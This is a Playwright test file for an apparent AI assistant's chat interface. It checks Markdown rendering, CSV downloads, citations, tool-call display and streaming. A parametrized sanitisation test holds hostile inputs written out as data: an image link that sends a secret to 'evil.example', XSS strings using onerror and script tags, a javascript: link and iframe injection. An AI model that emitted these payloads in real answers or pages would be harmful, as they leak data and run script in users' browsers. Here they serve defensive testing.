"""The answer in words: Markdown that loads nothing, marked numbers, code blocks, cited passages, many deltas."""

import pytest

SHIFTS = """() => {
  window.shifted = 0;
  new PerformanceObserver((list) => {
    for (const entry of list.getEntries()) if (!entry.hadRecentInput) window.shifted += entry.value;
  }).observe({ type: "layout-shift", buffered: true });
}"""


def test_markdown_is_drawn(obedient, ask):
    turn = ask(obedient, "say **Bold** and `code`\\n\\n| a | b |\\n|---|---|\\n| 1 | 2 |\\n\\n- x\\n- y", "answered")
    assert turn.locator(".words strong").inner_text() == "Bold"
    assert turn.locator(".words td").all_inner_texts() == ["1", "2"]
    assert turn.locator(".words li").count() == 2


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/leak.png?q=secret)",
        "<img src=x onerror=window.hacked=1> <script>window.hacked=1</script>",
        "[click](javascript:window.hacked=1)",
        "<iframe src=https://evil.example></iframe><style>*{display:none}</style>",
        "[![x](https://evil.example/a.png)](https://evil.example)",
        "```html\\n<img src=x onerror=window.hacked=1>\\n```",
        "```csv\\na,b\\n<img src=x onerror=window.hacked=1>,=1+1\\n```",
    ],
)
def test_hostile_markdown_loads_and_runs_nothing(obedient, ask, hostile):
    turn = ask(obedient, f"say {hostile}", "answered")
    assert turn.locator(".words").count() == 1
    assert turn.locator("img, script, iframe, style").count() == 0
    assert turn.locator("a[href^=javascript]").count() == 0
    assert obedient.evaluate("window.hacked") is None


def test_a_number_that_is_not_confirmed_is_marked(obedient, ask):
    turn = ask(obedient, "doubt *In all* there were 😀 4711 orders.", "answered")
    mark = turn.locator("mark.unconfirmed")
    assert mark.inner_text().startswith("4711")
    assert mark.get_attribute("title") == "Not confirmed by the result"


def test_a_csv_block_is_a_table_that_downloads_its_own_text(obedient, ask):
    rows = "\\n".join(f"{number},São {number}" for number in range(14))
    turn = ask(obedient, f"say Here:\\n\\n```csv\\nid,name\\n{rows}\\n```", "answered")
    assert turn.locator(".csv-preview .count").inner_text() == "first 10 of 14"
    assert turn.locator(".csv-preview tbody tr").count() == 10
    with obedient.expect_download() as waiting:
        turn.locator(".csv-block .download").click()
    assert waiting.value.suggested_filename.startswith("export_20")
    assert waiting.value.suggested_filename.endswith(".csv")
    text = waiting.value.path().read_text("utf-8-sig")
    assert text.splitlines()[:2] == ["id,name", "0,São 0"]
    assert len(text.splitlines()) == 15


def test_a_csv_block_of_a_result_downloads_the_complete_file(obedient, ask):
    sql = "SELECT range AS n, 'store ' || range AS store FROM range(3000)"
    turn = ask(obedient, f"bind {sql}", "answered")
    block = turn.locator(".csv-block")
    assert block.locator(".csv-preview .count").inner_text() == "first 10 of 3,000"
    with obedient.expect_download() as waiting:
        block.locator(".download").click()
    lines = waiting.value.path().read_text("utf-8-sig").splitlines()
    assert (lines[0], lines[-1], len(lines)) == ("n,store", "2999,store 2999", 3001)
    block.locator(".formats").click()
    assert obedient.locator("[data-item=xlsx]").inner_text().startswith("Open in Excel")


def test_rows_that_a_limit_has_cut_are_told_beside_their_number(obedient, ask):
    turn = ask(obedient, "cut", "answered")
    assert turn.locator(".result .count").inner_text() == "12 rows A limit cut the rows; there are more."


def test_another_code_block_downloads_as_code(obedient, ask):
    turn = ask(obedient, "say ```python\\nprint('é')\\n```", "answered")
    button = turn.get_by_role("button", name="Download", exact=True)
    assert button.get_attribute("title") == "Download code"
    with obedient.expect_download() as waiting:
        button.click()
    assert waiting.value.suggested_filename == "code.py"
    assert waiting.value.path().read_text("utf-8") == "print('é')\n"


def test_a_cited_passage_opens(obedient, ask):
    turn = ask(obedient, "cite", "answered")
    turn.locator(".passages summary").click()
    assert turn.locator(".passages blockquote").inner_text() == "Payment is due within <b>30</b> days."
    assert "page 4" in turn.locator(".passages summary").inner_text()


def test_the_tools_of_an_agent_stand_folded_with_what_they_were_given_and_gave(obedient, ask):
    turn = ask(obedient, "call", "answered")
    assert turn.locator(".tools summary").inner_text() == "2 tools called"
    assert not turn.locator(".tools pre").first.is_visible()
    turn.locator(".tools summary").click()
    calls = turn.locator(".tools li")
    assert [calls.nth(at).locator("code").inner_text() for at in range(2)] == ["look_up", "weigh"]
    assert calls.nth(0).locator(".given").inner_text() == "words: <b>store</b> · most: 3"
    assert "onerror=window.hacked" in calls.nth(0).locator("pre").inner_text()
    assert "did not work" in calls.nth(1).inner_text()
    assert obedient.evaluate("window.hacked") is None
    assert ask(obedient, "say no tools", "answered").locator(".tools").count() == 0


def test_counted_work_shows_its_share_and_the_time_left(obedient):
    obedient.fill("#question", "step 0.25")
    obedient.keyboard.press("Enter")
    obedient.wait_for_selector(".stage.running .time:has-text('25%')")
    assert "left" in obedient.inner_text(".stage.running .time")
    assert "Reading" in obedient.inner_text(".stage.running .more")
    obedient.keyboard.press("Escape")
    obedient.wait_for_selector('.turn[data-status="cancelled"]')


def test_a_burst_of_five_thousand_deltas_arrives_whole(obedient, ask):
    turn = ask(obedient, "burst 5000", "answered")
    text = turn.locator(".words").inner_text()
    assert text.startswith("Word 0 of")
    assert text.endswith("Word 4999 of a long answer, with the number 4999.")


def test_a_growing_answer_redraws_its_last_paragraph_alone(obedient):
    obedient.fill("#question", "slowly 3000")
    obedient.keyboard.press("Enter")
    obedient.wait_for_selector(".words p >> nth=2")
    obedient.locator(".words p").first.evaluate("p => (p.firstChild.mine = p.mine = true)")
    obedient.wait_for_selector('.turn[data-status="answered"]')
    assert obedient.locator(".words p").count() == 75
    assert obedient.locator(".words p").first.evaluate("p => p.mine && p.firstChild.mine")


def test_nothing_jumps_while_an_answer_grows(obedient, ask):
    ask(obedient, "say first", "answered")
    obedient.evaluate(SHIFTS)
    turn = ask(obedient, "grow", "answered")
    obedient.wait_for_selector(".plot[data-drawn]")
    assert turn.locator(".words").count() == 1
    assert obedient.evaluate("window.shifted") < 0.05
